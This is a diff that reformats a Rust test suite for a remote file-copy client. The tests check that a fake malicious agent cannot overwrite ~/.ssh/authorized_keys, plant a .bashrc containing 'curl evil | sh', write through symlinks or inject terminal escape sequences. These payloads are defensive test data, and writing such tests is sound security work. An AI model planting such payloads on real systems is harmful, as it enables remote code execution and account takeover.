@@ -70,8 +70,13 @@ fn fake_agent(frames: Vec<Frame>) -> (tokio::net::UnixStream, tokio::task::JoinH
     let task = tokio::spawn(async move {
         let (r, w) = agent_side.into_split();
         let (mut r, mut w) = (FrameReader::new(r), FrameWriter::new(w));
-        assert!(matches!(r.read_frame().await.unwrap(), Some(Frame::Hello { .. })));
-        w.write_frame(&Frame::Hello { version: VERSION }).await.unwrap();
+        assert!(matches!(
+            r.read_frame().await.unwrap(),
+            Some(Frame::Hello { .. })
+        ));
+        w.write_frame(&Frame::Hello { version: VERSION })
+            .await
+            .unwrap();
         let request = r.read_frame().await.unwrap().unwrap();
         for f in &frames {
             if w.write_frame(f).await.is_err() {
@@ -86,7 +91,12 @@ fn fake_agent(frames: Vec<Frame>) -> (tokio::net::UnixStream, tokio::task::JoinH
 }
 
 /// `copy_from_remote(remote → local)` against a fake agent sending `frames`.
-async fn fake_copy_from(frames: Vec<Frame>, remote: &str, local: &Path, recursive: bool) -> Result<(), ClientError> {
+async fn fake_copy_from(
+    frames: Vec<Frame>,
+    remote: &str,
+    local: &Path,
+    recursive: bool,
+) -> Result<(), ClientError> {
     let (s, task) = fake_agent(frames);
     let r = client::copy_from_remote(s, remote, local, recursive, None).await;
     task.await.unwrap();
@@ -115,7 +125,11 @@ fn assert_home_untouched(home: &Path, context: &str, allowed: &[&str]) {
     );
     assert_eq!(mode(&ssh.join("authorized_keys")), 0o600, "{context}");
     assert_eq!(mode(&ssh), 0o700, "{context}");
-    assert_eq!(std::fs::read_to_string(home.join(".bashrc")).unwrap(), "# mine\n", "{context}");
+    assert_eq!(
+        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
+        "# mine\n",
+        "{context}"
+    );
     let mut names: Vec<String> = std::fs::read_dir(home)
         .unwrap()
         .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
@@ -134,7 +148,10 @@ async fn a_fake_agent_cannot_replace_authorized_keys() {
     let mut a = vec![dir(".ssh", 0o777)];
     a.extend(file(".ssh/authorized_keys", 0o666, key));
     attacks.push(("the reported attack: a .ssh tree", a));
-    attacks.push(("another root name", file(".bashrc", 0o644, b"curl evil | sh\n")));
+    attacks.push((
+        "another root name",
+        file(".bashrc", 0o644, b"curl evil | sh\n"),
+    ));
     let mut a = file("syslog", 0o644, b"log\n");
     a.extend(file(".bashrc", 0o644, b"curl evil | sh\n"));
     attacks.push(("a second root entry", a));
@@ -147,7 +164,16 @@ async fn a_fake_agent_cannot_replace_authorized_keys() {
         let home = home();
         let r = fake_copy_from(frames, "/var/log/syslog", home.path(), false).await;
         let e = r.expect_err(what);
-        assert!(matches!(e, ClientError::Local { code: ErrorCode::BAD_REQUEST, .. }), "{what}: {e}");
+        assert!(
+            matches!(
+                e,
+                ClientError::Local {
+                    code: ErrorCode::BAD_REQUEST,
+                    ..
+                }
+            ),
+            "{what}: {e}"
+        );
         // Only the requested name may have come (complete files land one by one).
         assert_home_untouched(home.path(), what, &["syslog"]);
     }
@@ -157,8 +183,13 @@ async fn a_fake_agent_cannot_replace_authorized_keys() {
     frames.insert(0, honest_total(&frames));
     frames.push(Frame::CopyEnd);
     let home = home();
-    let e = fake_copy_from(frames, "/srv/site", home.path(), true).await.unwrap_err();
-    assert!(e.to_string().contains("is not the requested \"site\""), "{e}");
+    let e = fake_copy_from(frames, "/srv/site", home.path(), true)
+        .await
+        .unwrap_err();
+    assert!(
+        e.to_string().contains("is not the requested \"site\""),
+        "{e}"
+    );
     assert_home_untouched(home.path(), "recursive", &[]);
 }
 
@@ -187,7 +218,10 @@ async fn counts_sizes_and_repeats_must_match_the_announcement() {
     let mut a = vec![dir("t", 0o755), dir("t/a", 0o755)];
     a.extend(file("t/a", 0o644, b"x"));
     cases.push(("a file where a directory was", a));
-    cases.push(("a directory twice", vec![dir("t", 0o755), dir("t/d", 0o755), dir("t/d", 0o755)]));
+    cases.push((
+        "a directory twice",
+        vec![dir("t", 0o755), dir("t/d", 0o755), dir("t/d", 0o755)],
+    ));
     // An entry whose directory never came.
     let mut a = vec![dir("t", 0o755)];
     a.extend(file("t/nodir/f", 0o644, b"x"));
@@ -203,12 +237,26 @@ async fn counts_sizes_and_repeats_must_match_the_announcement() {
         }
         frames.push(Frame::CopyEnd);
         let local = tempfile::tempdir().unwrap();
-        let e = fake_copy_from(frames, "t", local.path(), true).await.expect_err(what);
-        assert!(matches!(e, ClientError::Local { code: ErrorCode::BAD_REQUEST, .. }), "{what}: {e}");
+        let e = fake_copy_from(frames, "t", local.path(), true)
+            .await
+            .expect_err(what);
+        assert!(
+            matches!(
+                e,
+                ClientError::Local {
+                    code: ErrorCode::BAD_REQUEST,
+                    ..
+                }
+            ),
+            "{what}: {e}"
+        );
         if what == "a file twice" {
             // Never the second version.
             let a = local.path().join("t/a");
-            assert!(!a.exists() || std::fs::read(&a).unwrap() == b"first", "{what}");
+            assert!(
+                !a.exists() || std::fs::read(&a).unwrap() == b"first",
+                "{what}"
+            );
         }
     }
 }
@@ -224,7 +272,9 @@ async fn peer_modes_are_masked_and_existing_directories_keep_theirs() {
     frames.push(dir("t/d", 0o777));
     frames.insert(0, honest_total(&frames));
     frames.push(Frame::CopyEnd);
-    fake_copy_from(frames, "t", local.path(), true).await.unwrap();
+    fake_copy_from(frames, "t", local.path(), true)
+        .await
+        .unwrap();
     let um = umask();
     assert_eq!(mode(&t), 0o750, "an existing directory keeps its mode");
     assert_eq!(mode(&t.join("f")), 0o777 & !um);
@@ -236,9 +286,15 @@ async fn peer_modes_are_masked_and_existing_directories_keep_theirs() {
     std::fs::write(&src, "x").unwrap();
     set_mode(&src, 0o777);
     let remote = tempfile::tempdir().unwrap();
-    client::copy_to_remote(agent.connect().await, &src, remote.path().to_str().unwrap(), false, None)
-        .await
-        .unwrap();
+    client::copy_to_remote(
+        agent.connect().await,
+        &src,
+        remote.path().to_str().unwrap(),
+        false,
+        None,
+    )
+    .await
+    .unwrap();
     agent.next_result().await.unwrap();
     assert_eq!(mode(&remote.path().join("open")), 0o777 & !um);
 }
@@ -270,7 +326,12 @@ async fn a_symlink_inside_the_copy_root_leads_nowhere() {
     no_dir.extend(file("x/link/pwned", 0o644, b"pwned"));
     for (dst, frames) in [("d", through_dir), ("d", no_dir)] {
         let (mut r, mut w) = agent.raw().await;
-        w.write_frame(&Frame::CopyTo { path: dst.into(), recursive: true }).await.unwrap();
+        w.write_frame(&Frame::CopyTo {
+            path: dst.into(),
+            recursive: true,
+        })
+        .await
+        .unwrap();
         let mut all = vec![honest_total(&frames)];
         all.extend(frames);
         all.push(Frame::CopyEnd);
@@ -294,14 +355,19 @@ async fn a_symlink_inside_the_copy_root_leads_nowhere() {
         .await
         .unwrap();
     agent.next_result().await.unwrap();
-    assert!(std::fs::symlink_metadata(root.join("d/x/link")).unwrap().is_file());
+    assert!(
+        std::fs::symlink_metadata(root.join("d/x/link"))
+            .unwrap()
+            .is_file()
+    );
     assert!(!outside.join("pwned").exists());
     std::fs::remove_file(root.join("d/x/link")).unwrap();
     std::os::unix::fs::symlink(&outside, root.join("d/x/link")).unwrap();
     // Reading through it: refused.
     let local = tempfile::tempdir().unwrap();
     for (src, recursive) in [("d/x/link/secret", false), ("d/x/link", true)] {
-        let r = client::copy_from_remote(agent.connect().await, src, local.path(), recursive, None).await;
+        let r = client::copy_from_remote(agent.connect().await, src, local.path(), recursive, None)
+            .await;
         assert!(r.is_err(), "{src}");
         let _ = agent.next_result().await;
     }
@@ -317,16 +383,28 @@ async fn names_of_255_bytes_copy_both_ways() {
     let src = work.path().join(&name);
     std::fs::write(&src, "long").unwrap();
     let remote = tempfile::tempdir().unwrap();
-    client::copy_to_remote(agent.connect().await, &src, remote.path().to_str().unwrap(), false, None)
-        .await
-        .unwrap();
+    client::copy_to_remote(
+        agent.connect().await,
+        &src,
+        remote.path().to_str().unwrap(),
+        false,
+        None,
+    )
+    .await
+    .unwrap();
     agent.next_result().await.unwrap();
     let there = remote.path().join(&name);
     assert_eq!(std::fs::read(&there).unwrap(), b"long");
     let back = tempfile::tempdir().unwrap();
-    client::copy_from_remote(agent.connect().await, there.to_str().unwrap(), back.path(), false, None)
-        .await
-        .unwrap();
+    client::copy_from_remote(
+        agent.connect().await,
+        there.to_str().unwrap(),
+        back.path(),
+        false,
+        None,
+    )
+    .await
+    .unwrap();
     agent.next_result().await.unwrap();
     assert_eq!(std::fs::read(back.path().join(&name)).unwrap(), b"long");
 }
@@ -337,11 +415,15 @@ async fn a_failed_copy_removes_its_empty_directories_and_restores_modes() {
     let mut frames = vec![dir("t", 0o755), dir("t/a", 0o755)];
     frames.extend(file("t/a/f", 0o644, b"x"));
     let n = frames.len();
-    frames[n - 1] = Frame::FileEnd { sha256: sha256(b"not x") };
+    frames[n - 1] = Frame::FileEnd {
+        sha256: sha256(b"not x"),
+    };
     frames.insert(0, honest_total(&frames));
     frames.push(Frame::CopyEnd);
     let local = tempfile::tempdir().unwrap();
-    let e = fake_copy_from(frames, "t", local.path(), true).await.unwrap_err();
+    let e = fake_copy_from(frames, "t", local.path(), true)
+        .await
+        .unwrap_err();
     assert!(e.to_string().contains("SHA-256 mismatch"), "{e}");
     assert_eq!(std::fs::read_dir(local.path()).unwrap().count(), 0);
 
@@ -351,11 +433,15 @@ async fn a_failed_copy_removes_its_empty_directories_and_restores_modes() {
     frames.push(dir("t/b", 0o755));
     frames.extend(file("t/b/f", 0o644, b"x"));
     let n = frames.len();
-    frames[n - 1] = Frame::FileEnd { sha256: sha256(b"not x") };
+    frames[n - 1] = Frame::FileEnd {
+        sha256: sha256(b"not x"),
+    };
     frames.insert(0, honest_total(&frames));
     frames.push(Frame::CopyEnd);
     let local = tempfile::tempdir().unwrap();
-    fake_copy_from(frames, "t", local.path(), true).await.unwrap_err();
+    fake_copy_from(frames, "t", local.path(), true)
+        .await
+        .unwrap_err();
     let t = local.path().join("t");
     assert_eq!(std::fs::read(t.join("ok")).unwrap(), b"ok");
     assert!(!t.join("b").exists());
@@ -369,7 +455,9 @@ async fn peer_names_in_messages_are_escaped() {
     let mut frames = file(evil, 0o644, b"x");
     frames.insert(0, honest_total(&frames));
     frames.push(Frame::CopyEnd);
-    let e = fake_copy_from(frames, "f", local.path(), false).await.unwrap_err();
+    let e = fake_copy_from(frames, "f", local.path(), false)
+        .await
+        .unwrap_err();
     let msg = e.to_string();
     assert!(!msg.chars().any(|c| c.is_control()), "{msg:?}");
     assert!(msg.contains("\\u{1b}]0;owned"), "{msg:?}");
